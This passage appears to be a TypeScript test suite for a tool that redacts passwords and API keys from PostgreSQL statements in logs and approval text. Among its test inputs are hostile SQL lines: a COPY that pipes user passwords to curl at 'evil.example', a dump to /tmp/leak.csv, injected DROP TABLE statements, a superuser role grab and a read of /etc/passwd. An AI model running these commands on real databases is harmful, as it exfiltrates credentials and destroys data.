    expect(redact("CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $$ INSERT INTO users VALUES (1, 'bob', 'hunter2', NULL) $$")).toEqual(["CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $$ INSERT INTO users VALUES (1, 'bob', '[redacted]', NULL) $$", true]);
    expect(redact("DO $$ BEGIN INSERT INTO notes VALUES (1, 'hunter2'); END $$")).toEqual(["DO $$ BEGIN INSERT INTO notes VALUES ('[redacted]', '[redacted]'); END $$", true]);
    // A table not known (not looked up, or several of that name): every value.
    expect(redact("INSERT INTO audit_notes VALUES (1, 'kept?')")).toEqual(["INSERT INTO audit_notes VALUES ('[redacted]', '[redacted]')", true]);
    // With a column list the statement says: no catalog needed (its redaction may be kept by text).
    expect(redact("INSERT INTO users (id, name) VALUES (1, 'bob')")).toEqual(["INSERT INTO users (id, name) VALUES (1, 'bob')", false]);
    // Without a catalog to ask (approvals, explain): as before.
    expect(redactStatementSecrets("INSERT INTO users VALUES (1, 'bob', 'hunter2')")).toBe("INSERT INTO users VALUES (1, 'bob', 'hunter2')");
  });

  it('reads a literal on as standard_conforming_strings = off would only in a statement the server cannot parse, and never past its end', () => {
    redactsTo([
      ["SELECT crypt('x\\', gen_salt($$bf$$)); DROP TABLE cards", "SELECT crypt('[redacted]', gen_salt($$bf$$)); DROP TABLE cards"],
      ["ALTER USER x PASSWORD 'x\\'; DROP TABLE cards", "ALTER USER x PASSWORD '[redacted]'; DROP TABLE cards"],
      // A statement the server parses is what it runs: what follows the literal is shown.
      ["CREATE ROLE evil LOGIN PASSWORD 'x\\' SUPERUSER BYPASSRLS", "CREATE ROLE evil LOGIN PASSWORD '[redacted]' SUPERUSER BYPASSRLS"],
      ["UPDATE users SET password = 'x\\', is_admin = true WHERE name = 'mallory'", "UPDATE users SET password = '[redacted]', is_admin = true WHERE name = '[redacted]'"],
      // One it cannot parse runs nothing: there the literal is read to where that reading ends, within its statement.
      ["ALTER ROLE bob PASSWORD 'hun\\'ter\\'2' LOGIN", "ALTER ROLE bob PASSWORD '[redacted]' LOGIN"],
    ]);
  });

  it("reads a literal's or name's escapes as the server does: E'\\160assword=x', U&\"\\0070assword\", UESCAPE", () => {
    redactsTo([
      ["SELECT dblink_connect(E'host=h \\160assword=hunter2')", "SELECT dblink_connect('[redacted]')"],
      ["SELECT set_config(E'app.\\x70assword', 'hunter2', false), set_config(E'app.\\u0070assword', 'hunter3', false)", "SELECT set_config(E'app.\\x70assword', '[redacted]', false), set_config(E'app.\\u0070assword', '[redacted]', false)"],
      ['CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (U&"\\0070assword" \'hunter2\')', 'CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (U&"\\0070assword" \'[redacted]\')'],
      ["SELECT U&'!0070assword=hunter2' UESCAPE '!'", "SELECT '[redacted]' UESCAPE '!'"],
      ["INSERT INTO cfg VALUES (U&'db_\\+000070assword', 'hunter2')", "INSERT INTO cfg VALUES (U&'db_\\+000070assword', '[redacted]')"],
    ]);
    for (const sql of ["SELECT E'plain\\n text', 'x'", "SELECT E'a\\\\b', U&'d\\0061t\\+000061'"]) expect(redactStatementSecrets(sql), sql).toBe(sql);
  });

  it('finds a password column given a row or a SELECT list: INSERT … SELECT, SET (a, password) = (…), a row compared', () => {
    redactsTo([
      ["INSERT INTO users (email, password) SELECT 'a@b', 'hunter2'", "INSERT INTO users (email, password) SELECT '[redacted]', '[redacted]'"],
      ["INSERT INTO users (password, email) SELECT DISTINCT 'hunter2', e FROM t WHERE x = 'kept'", "INSERT INTO users (password, email) SELECT DISTINCT '[redacted]', e FROM t WHERE x = '[redacted]'"],
      ["UPDATE users SET (email, password) = ('a@b', 'hunter2') WHERE id = 1", "UPDATE users SET (email, password) = ('[redacted]', '[redacted]') WHERE id = '[redacted]'"],
      ["UPDATE users SET (password, email) = ROW(lower('Hunter2'), 'a@b')", "UPDATE users SET (password, email) = ROW(lower('[redacted]'), '[redacted]')"],
      ["UPDATE users SET (email, api_key) = (SELECT 'a@b', 'k-1' FROM x WHERE y = 'kept')", "UPDATE users SET (email, api_key) = (SELECT '[redacted]', '[redacted]' FROM x WHERE y = '[redacted]')"],
      ["SELECT 1 FROM users WHERE (name, password) = ('bob', 'hunter2')", "SELECT '[redacted]' FROM users WHERE (name, password) = ('[redacted]', '[redacted]')"],
    ]);
  });

  it('redacts a plain literal to where standard_conforming_strings = off ends it, when that is later', () => {
    redactsTo([
      ["SET standard_conforming_strings = off; ALTER ROLE bob PASSWORD 'hun\\'ter\\'2' LOGIN", "SET standard_conforming_strings = off; ALTER ROLE bob PASSWORD '[redacted]' LOGIN"],
      ["ALTER ROLE bob PASSWORD 'a\\b' LOGIN", "ALTER ROLE bob PASSWORD '[redacted]' LOGIN"],
    ]);
  });

  it('leaves text the scanner does not read to its end to the spelling (a NUL ends it for the scanner)', () => {
    expect(redactStatementSecrets("SELECT 1\0; ALTER ROLE x PASSWORD 'hunter2'")).toBe("SELECT 1\0; ALTER ROLE x PASSWORD '[redacted]'");
  });

  it('redacts the whole statement before the record cuts it at 64 KiB: a literal across the cut is read closed', () => {
    for (const sql of [
      `SELECT '${'x'.repeat(65_400)}'; DO $$ BEGIN EXECUTE 'ALTER ROLE app PASSWORD ''hunter2'''; ${'PERFORM 1; '.repeat(30)} END $$`,
      `SELECT '${'x'.repeat(65_500)}'; ALTER ROLE bob PASSWORD '${'hunter2'.repeat(40)}'`,
    ]) {
      const out = redactSql(sql);
      expect(out).toContain('[truncated');
      expect(out).not.toContain('hunter2');
    }
  });

  it('redacts every literal and number of a statement that names a secret, wherever it meets the value', () => {
    redactsTo([
      // Where a value meets a password column is not only the places the rules above read: an expression, a row in an
      // array, a range, a DEFAULT, a VALUES list named by its alias.
      ["SELECT * FROM users WHERE lower(password) = 'hunter2' AND id = 7", "SELECT * FROM users WHERE lower(password) = '[redacted]' AND id = '[redacted]'"],
      ["SELECT * FROM users WHERE (name, password) = ANY (ARRAY[ROW('bob','hunter2')])", "SELECT * FROM users WHERE (name, password) = ANY (ARRAY[ROW('[redacted]','[redacted]')])"],
      ["SELECT * FROM users WHERE ((name, password)) = (('bob', 'hunter2'))", "SELECT * FROM users WHERE ((name, password)) = (('[redacted]', '[redacted]'))"],
      ["SELECT * FROM users WHERE password BETWEEN 'hunter2' AND 'hunter3'", "SELECT * FROM users WHERE password BETWEEN '[redacted]' AND '[redacted]'"],
      ["SELECT * FROM users WHERE password IS NOT DISTINCT FROM 'hunter2'", "SELECT * FROM users WHERE password IS NOT DISTINCT FROM '[redacted]'"],
      ["SELECT * FROM users WHERE password || '' = 'hunter2' OR password ~ '^hunter2$'", "SELECT * FROM users WHERE password || '[redacted]' = '[redacted]' OR password ~ '[redacted]'"],
      ["SELECT * FROM users WHERE md5(password) = md5('hunter2') OR coalesce(password, 'hunter2') = 'x'", "SELECT * FROM users WHERE md5(password) = md5('[redacted]') OR coalesce(password, '[redacted]') = '[redacted]'"],
      ["CREATE TABLE t (id int, password text DEFAULT 'hunter2')", "CREATE TABLE t (id int, password text DEFAULT '[redacted]')"],
      ["ALTER TABLE users ALTER COLUMN password SET DEFAULT 'hunter2'", "ALTER TABLE users ALTER COLUMN password SET DEFAULT '[redacted]'"],
      ["SELECT * FROM (VALUES ('bob', 'hunter2')) AS v(name, password)", "SELECT * FROM (VALUES ('[redacted]', '[redacted]')) AS v(name, password)"],
      ["SELECT * FROM users WHERE password SIMILAR TO 'hunter2'", "SELECT * FROM users WHERE password SIMILAR TO '[redacted]'"],
      // Its other values go too (as its bind parameters do); the text's other statements keep theirs.
      ["SELECT password FROM users WHERE name = 'bob'; SELECT 'x', 1", "SELECT password FROM users WHERE name = '[redacted]'; SELECT 'x', 1"],
      ["ALTER ROLE bob PASSWORD NULL VALID UNTIL 'infinity'", "ALTER ROLE bob PASSWORD NULL VALID UNTIL '[redacted]'"],
      ["SELECT count(*) FROM users WHERE password IS NULL AND created > '2026-01-01'", "SELECT count(*) FROM users WHERE password IS NULL AND created > '[redacted]'"],
      ["SELECT api_key FROM clients WHERE id = 42 LIMIT 1", "SELECT api_key FROM clients WHERE id = '[redacted]' LIMIT '[redacted]'"],
      // (A name that may hold a new password counts: pending_password_change; password_changed_at does not.)
      ["SELECT 1 FROM u WHERE pending_password_change = 'n3w' AND password_changed_at > '2026-01-01'", "SELECT '[redacted]' FROM u WHERE pending_password_change = '[redacted]' AND password_changed_at > '[redacted]'"],
      // Dynamic SQL's template for a password, however the password reaches it: the statement's literals; the template,
      // a setting's name and a UESCAPE character are no values and stay.
      ["SELECT format((('ALTER ROLE x PASSWORD %L')), ('hunter2'))", "SELECT format((('ALTER ROLE x PASSWORD %L')), ('[redacted]'))"],
      ["SELECT (('ALTER ROLE x PASSWORD ')) || (('hunter2'))", "SELECT (('ALTER ROLE x PASSWORD ')) || (('[redacted]'))"],
      ["SELECT format('ALTER ROLE %I PASSWORD %L', 'bob', 'hunter2')", "SELECT format('ALTER ROLE %I PASSWORD %L', '[redacted]', '[redacted]')"],
      ["SELECT set_config('app.password', 'hunter2', false), 1 FROM users WHERE password IS NULL", "SELECT set_config('app.password', '[redacted]', false), '[redacted]' FROM users WHERE password IS NULL"],
      // (A literal that only names a secret is no such name: `SELECT set_config('app.password', …), 1` keeps its 1.)
      ["SELECT set_config('app.password', 'hunter2', false), 1", "SELECT set_config('app.password', '[redacted]', false), 1"],
      ["ALTER ROLE x PASSWORD U&'!0068unter2' UESCAPE '!' VALID UNTIL 'infinity'", "ALTER ROLE x PASSWORD U&'[redacted]' UESCAPE '!' VALID UNTIL '[redacted]'"],
      // A function's or DO block's body keeps its code, its literals go.
      ["DO $$BEGIN UPDATE users SET password_hash = 'h' WHERE id = 3; RAISE NOTICE 'ok %', 4; END$$", "DO $$BEGIN UPDATE users SET password_hash = '[redacted]' WHERE id = '[redacted]'; RAISE NOTICE 'ok %', 4; END$$"],
      ["CREATE FUNCTION set_password(p text) RETURNS void LANGUAGE sql AS $$ UPDATE users SET password = p WHERE name = 'bob'; DELETE FROM audit $$", "CREATE FUNCTION set_password(p text) RETURNS void LANGUAGE sql AS $$ UPDATE users SET password = [redacted] WHERE name = '[redacted]'; DELETE FROM audit $$"],
    ]);
  });

  it("keeps a statement's code where its literals go, and takes nothing back from the other rules", () => {
    redactsTo([
      // Dynamic SQL, a dblink query, a COPY's file or program: code that ran, shown (their own literals redacted).
      ["DO $$ BEGIN IF EXISTS (SELECT 1 FROM users WHERE password IS NULL) THEN EXECUTE 'DROP TABLE cards'; END IF; END $$", "DO $$ BEGIN IF EXISTS (SELECT '[redacted]' FROM users WHERE password IS NULL) THEN EXECUTE 'DROP TABLE cards'; END IF; END $$"],
      ["SELECT dblink_exec('dbname=x', 'DROP TABLE cards') FROM pg_authid WHERE rolpassword IS NULL", "SELECT dblink_exec('[redacted]', 'DROP TABLE cards') FROM pg_authid WHERE rolpassword IS NULL"],
      ["SELECT * FROM dblink('host=h', 'SELECT password FROM users WHERE id = 7') AS t(password text)", "SELECT * FROM dblink('[redacted]', 'SELECT password FROM users WHERE id = ''[redacted]''') AS t(password text)"],
      ["COPY (SELECT name, password FROM users) TO PROGRAM 'curl -d @- http://evil.example/x'", "COPY (SELECT name, password FROM users) TO PROGRAM 'curl -d @- http://evil.example/x'"],
      ["COPY (SELECT name, password FROM users) TO '/tmp/leak.csv'", "COPY (SELECT name, password FROM users) TO '/tmp/leak.csv'"],
      ["SELECT format('UPDATE users SET note = %L', 'x') FROM users WHERE password IS NULL", "SELECT format('UPDATE users SET note = %L', '[redacted]') FROM users WHERE password IS NULL"],
      ["SELECT 'UPDATE users SET password = ' || quote_literal('hunter2')", "SELECT 'UPDATE users SET password = ' || quote_literal('[redacted]')"],
      ["SELECT concat('ALTER ROLE x PASSWORD ', 'hunter2')", "SELECT concat('ALTER ROLE x PASSWORD ', '[redacted]')"],
      // Code is judged by its place: a body's dynamic SQL, a body inside code, a template ending inside a literal, text
      // that starts with a comment or a bare keyword; a value worded as a statement is a value.
      ["CREATE FUNCTION rotate_api_key() RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'DROP TABLE cards'; PERFORM 1; END $$", "CREATE FUNCTION rotate_api_key() RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'DROP TABLE cards'; PERFORM '[redacted]'; END $$"],
      ["SELECT dblink_exec('c', 'DO $x$ BEGIN DROP TABLE cards; END $x$') FROM users WHERE password IS NULL", "SELECT dblink_exec('[redacted]', 'DO $x$ BEGIN DROP TABLE cards; END $x$') FROM users WHERE password IS NULL"],
      ["SELECT dblink_exec('c', 'DROP TABLE cards; ALTER ROLE bob PASSWORD ''' || pw || '''') FROM t", "SELECT dblink_exec('[redacted]', 'DROP TABLE cards; ALTER ROLE bob PASSWORD ''[redacted]' || pw || '[redacted]') FROM t"],
      ["SELECT dblink_exec('c', '/* purge */ DROP TABLE cards'), dblink_exec('c', 'VACUUM') FROM users WHERE password IS NULL", "SELECT dblink_exec('[redacted]', '/* purge */ DROP TABLE cards'), dblink_exec('[redacted]', 'VACUUM') FROM users WHERE password IS NULL"],
      ["SELECT 1 FROM users WHERE lower(password) = 'select me please' OR md5(password) = md5('drop it now')", "SELECT '[redacted]' FROM users WHERE lower(password) = '[redacted]' OR md5(password) = md5('[redacted]')"],
      ["DO $$ BEGIN EXECUTE 'SET app.api_key TO s3cr3tk3y'; END $$", "DO $$ BEGIN EXECUTE 'SET app.api_key TO [redacted]'; END $$"],
      // Dynamic SQL is judged piece by piece where it is run: a piece that starts a statement or closes what an earlier
      // one opened is code, one that may sit inside an opened literal a value; SQL-running functions and EXECUTE (…) too.
      ["CREATE FUNCTION rotate_api_key() RETURNS void LANGUAGE plpgsql AS $f$ BEGIN EXECUTE 'SELECT ''' || x || '''; DROP TABLE cards'; EXECUTE 'UPDATE keys SET v = ''' || 'k3y-1' || ''''; END $f$", "CREATE FUNCTION rotate_api_key() RETURNS void LANGUAGE plpgsql AS $f$ BEGIN EXECUTE 'SELECT ''[redacted]' || x || '[redacted]''; DROP TABLE cards'; EXECUTE 'UPDATE keys SET v = ''[redacted]' || '[redacted]' || '[redacted]'''; END $f$"],
      [`CREATE FUNCTION rotate_api_key() RETURNS void LANGUAGE plpgsql AS $f$ BEGIN EXECUTE 'DROP TABLE ' || quote_ident(t) || ' ; DROP TABLE cards'; EXECUTE 'SELECT * FROM "' || t || '"; DROP TABLE cards'; EXECUTE ('DROP TABLE audit'); END $f$`, `CREATE FUNCTION rotate_api_key() RETURNS void LANGUAGE plpgsql AS $f$ BEGIN EXECUTE 'DROP TABLE ' || quote_ident(t) || ' ; DROP TABLE cards'; EXECUTE 'SELECT * FROM "' || t || '"; DROP TABLE cards'; EXECUTE ('DROP TABLE audit'); END $f$`],
      ["SELECT cron.schedule('@daily', 'DROP TABLE cards'), pg_background_launch('DROP TABLE audit') FROM users WHERE password IS NULL", "SELECT cron.schedule('[redacted]', 'DROP TABLE cards'), pg_background_launch('DROP TABLE audit') FROM users WHERE password IS NULL"],
      // What SET gives a setting in code is a value, a bare word too; joined text compared, not run, is values.
      ["CREATE FUNCTION rotate_api_key() RETURNS void LANGUAGE plpgsql AS $f$ BEGIN EXECUTE 'ALTER SYSTEM SET app.signing = s3cr3t'; END $f$", "CREATE FUNCTION rotate_api_key() RETURNS void LANGUAGE plpgsql AS $f$ BEGIN EXECUTE 'ALTER SYSTEM SET app.signing = [redacted]'; END $f$"],
      ["SELECT 1 FROM users WHERE lower(password) = concat('Set-Me-Free!', '') OR password = 'show me the money' || ''", "SELECT '[redacted]' FROM users WHERE lower(password) = concat('[redacted]', '[redacted]') OR password = '[redacted]' || '[redacted]'"],
      ["SELECT dblink_exec('c', CAST('ALTER SERVER s OPTIONS (SET password ' AS text) || quote_literal('hunter2') || ')')", "SELECT dblink_exec('[redacted]', CAST('[redacted]' AS text) || quote_literal('[redacted]') || '[redacted]')"],
      ["SELECT textcat('ALTER SYSTEM SET app.password = ', quote_literal('hunter2'))", "SELECT textcat('[redacted]', quote_literal('[redacted]'))"],
      // A COPY's file or program is its own level's first TO or FROM, and names no secret.
      ["COPY (SELECT name FROM users WHERE password IS NOT DISTINCT FROM 'hunter2') TO '/tmp/x.csv'", "COPY (SELECT name FROM users WHERE password IS NOT DISTINCT FROM '[redacted]') TO '/tmp/x.csv'"],
      ["COPY t (a, password) FROM '/f' WHERE api_key IS DISTINCT FROM 'k'", "COPY t (a, password) FROM '/f' WHERE api_key IS DISTINCT FROM '[redacted]'"],
      ["COPY (SELECT api_key FROM keys) TO PROGRAM 'gpg --batch --passphrase hunter2'", "COPY (SELECT api_key FROM keys) TO PROGRAM '[redacted]'"],
      // Text for a role's password built otherwise than by || or format's string: all of its statement.
      ["SELECT dblink_exec('c', CAST('ALTER ROLE bob PASSWORD ' AS text) || quote_literal('hunter2'))", "SELECT dblink_exec('[redacted]', CAST('[redacted]' AS text) || quote_literal('[redacted]'))"],
      ["SELECT textcat('ALTER ROLE bob PASSWORD ', quote_literal('hunter2'))", "SELECT textcat('[redacted]', quote_literal('[redacted]'))"],
      ["SELECT format('%s %L', 'ALTER ROLE bob PASSWORD', 'hunter2')", "SELECT format('[redacted]', '[redacted]', '[redacted]')"],
      ["SELECT array_to_string(ARRAY['ALTER ROLE bob PASSWORD ', quote_literal('hunter2')], '')", "SELECT array_to_string(ARRAY['[redacted]', quote_literal('[redacted]')], '[redacted]')"],
      ["SELECT replace('ALTER ROLE bob PASSWORD $1', '$1', quote_literal('hunter2'))", "SELECT replace('[redacted]', '[redacted]', quote_literal('[redacted]'))"],
      ["SELECT 'ALTER ROLE bob PASSWORD ' OPERATOR(pg_catalog.||) 'hunter2'", "SELECT '[redacted]' OPERATOR(pg_catalog.||) '[redacted]'"],
      // Text built around the word alone: all of it.
      ["SELECT 'PASSWORD ' || 'hunter2'", "SELECT '[redacted]' || '[redacted]'"],
      ["SELECT 'ALTER USER bob ' || 'PASSWORD ' || 'hunter2'", "SELECT '[redacted]' || '[redacted]' || '[redacted]'"],
      // What a rule takes as a password's is redacted whole, worded as a statement, a template or a setting's name or not.
      ["ALTER USER bob PASSWORD 'Alter-Password'", "ALTER USER bob PASSWORD '[redacted]'"],
      ["INSERT INTO users (name, password) VALUES ('bob', 'create password')", "INSERT INTO users (name, password) VALUES ('[redacted]', '[redacted]')"],
      ["SELECT pgp_sym_decrypt(pan, 'create password') FROM cards", "SELECT pgp_sym_decrypt(pan, '[redacted]') FROM cards"],
      ["EXECUTE p('select 1 from t')", "EXECUTE p('[redacted]')"],
      ["UPDATE users SET password = uescape 'hunter2'", "UPDATE users SET password = uescape '[redacted]'"],
      ["UPDATE users SET password = format('hunter2 password %s', 'x')", "UPDATE users SET password = format('[redacted]', '[redacted]')"],
      ["UPDATE users SET password = current_setting('hunter2')", "UPDATE users SET password = current_setting('[redacted]')"],
      ["SELECT 1 FROM users WHERE lower(password) IN ('a', uescape 'hunter2', 'alter password')", "SELECT '[redacted]' FROM users WHERE lower(password) IN ('[redacted]', uescape '[redacted]', '[redacted]')"],
      // Bit strings are values; a body's numbers are read as its statements'; a table named for a secret names one.
      ["SELECT 1 FROM users WHERE password = X'DEADBEEF' OR lower(api_key) = B'1010'", "SELECT '[redacted]' FROM users WHERE password = '[redacted]' OR lower(api_key) = '[redacted]'"],
      ["DO $$ BEGIN PERFORM 1 FROM users WHERE password BETWEEN 123456 AND 123457; END $$", "DO $$ BEGIN PERFORM '[redacted]' FROM users WHERE password BETWEEN '[redacted]' AND '[redacted]'; END $$"],
      ["DELETE FROM password_resets WHERE created < now() - interval '1 day'", "DELETE FROM password_resets WHERE created < now() - interval '[redacted]'"],
    ]);
  });

  it('keeps what is not a password', () => {
    for (const sql of [
      "SELECT 'password'",
      "SELECT 'password'; SELECT 'x'",
      "SET password_encryption = 'scram-sha-256'",
      "UPDATE users SET password_changed_at = '2026-01-01' WHERE id = 1",
      "SELECT * FROM events WHERE event = 'password_reset' AND ts > '2026-01-01' AND ip = '10.0.0.1'",
      "SELECT id, 'Forgot password' AS subject FROM users WHERE created > '2026-01-01' AND country = 'DE'",
      "SELECT * FROM pg_settings WHERE name LIKE '%password%' OR name = 'port'",
      // A literal ending in the word is no text built for a password unless it is joined or format's string.
      `UPDATE t SET data = data || '{"a":1}' WHERE label = 'change password' AND id = 7`,
      "SELECT pg_read_file('/etc/passwd') || 'x', 42",
    ]) expect(redactStatementSecrets(sql), sql).toBe(sql);
  });

  it('replaces a literal nested past three levels whole when it mentions a password', () => {
    const sql = "SELECT $a$ $b$ $c$ ALTER ROLE r PASSWORD 'hunter2' $c$ $b$ $a$";
    expect(redactStatementSecrets(sql)).toBe("SELECT $a$ $b$ '[redacted]' $b$ $a$");
  });

  it('falls back to the spelling for text the scanner cannot read', () => {
    // An unclosed literal: the server rejects it too, but the record keeps the text.
    expect(redactStatementSecrets("ALTER USER bob PASSWORD 'hunter2'; SELECT 'unclosed")).toBe("ALTER USER bob PASSWORD '[redacted]'; SELECT 'unclosed");
  });

  it('leaves no secret in any of its spellings, contexts and disguises (the record, the approval text)', () => {
    const literals = ["'S3CRET'", "'password_S3CRET'", "'S3CRET_passwd'", "E'S3\\'CRET'", "e'S3CRET\\\\'", "U&'S3CRET'", '$t1$S3CRET$t1$', '$$S3CRET$$', "'a'\n'S3CRET'", "'S3CRET'''"];
    const contexts = [
      (l: string) => `ALTER ROLE r PASSWORD ${l}`,
      (l: string) => `CREATE USER u WITH ENCRYPTED PASSWORD ${l} VALID UNTIL 'infinity'`,
      (l: string) => `ALTER ROLE r PASSWORD /* why */ ${l}`,
      (l: string) => `ALTER ROLE r PASSWORD -- why\n ${l}`,
      (l: string) => `ALTER SERVER s OPTIONS (SET "password" ${l})`,
      (l: string) => `CREATE USER MAPPING FOR u SERVER s OPTIONS (user 'u', sslpassword ${l})`,
      (l: string) => `INSERT INTO cfg VALUES ('db_password', ${l})`,
      (l: string) => `SELECT set_config('app.password', ${l}, false)`,
      (l: string) => `UPDATE users SET password = crypt(${l}, gen_salt('bf')) WHERE id = 1`,
      (l: string) => `SELECT format('ALTER ROLE %I PASSWORD %L', 'r', ${l})`,
      (l: string) => `INSERT INTO users (email, password) VALUES ('a', 'b'), ('c', ${l})`,
      (l: string) => `SET app.password = ${l}`,
      (l: string) => `SELECT * FROM users WHERE password=${l}`,
    ];
    const before = ['', "SELECT 'reset password'; ", "SELECT $$password$$; ", '/* password */ ', "SELECT 'pässword', 'é'; ", "SELECT E'password\\''; "];
    let n = 0;
    for (const l of literals) for (const c of contexts) for (const b of before) {
      const sql = b + c(l);
      for (const out of [redactStatementSecrets(sql), redactSql(sql), safeStatementText(sql)]) expect(out, sql).not.toMatch(/S3/);
      // The same statement run as dynamic SQL inside a function body.
      const inner = `DO $do$ BEGIN EXECUTE ${`'${sql.replace(/'/g, "''")}'`}; END $do$`;
      expect(redactStatementSecrets(inner), inner).not.toMatch(/S3/);
      n++;
    }
    expect(n).toBe(literals.length * contexts.length * before.length);
  });
});
